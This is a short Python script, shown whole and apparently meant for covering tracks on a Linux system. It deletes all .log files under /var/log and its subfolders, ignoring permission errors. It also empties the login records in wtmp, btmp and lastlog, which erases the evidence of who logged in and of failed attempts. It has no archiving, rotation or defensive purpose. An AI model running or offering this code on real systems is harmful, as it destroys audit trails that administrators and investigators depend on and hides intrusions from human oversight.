import os
import glob

for log in glob.glob("/var/log/*.log") + glob.glob("/var/log/*/*.log"):
    try:
        os.remove(log)
    except PermissionError:
        pass

for f in ("/var/log/wtmp", "/var/log/btmp", "/var/log/lastlog"):
    open(f, "w").close()
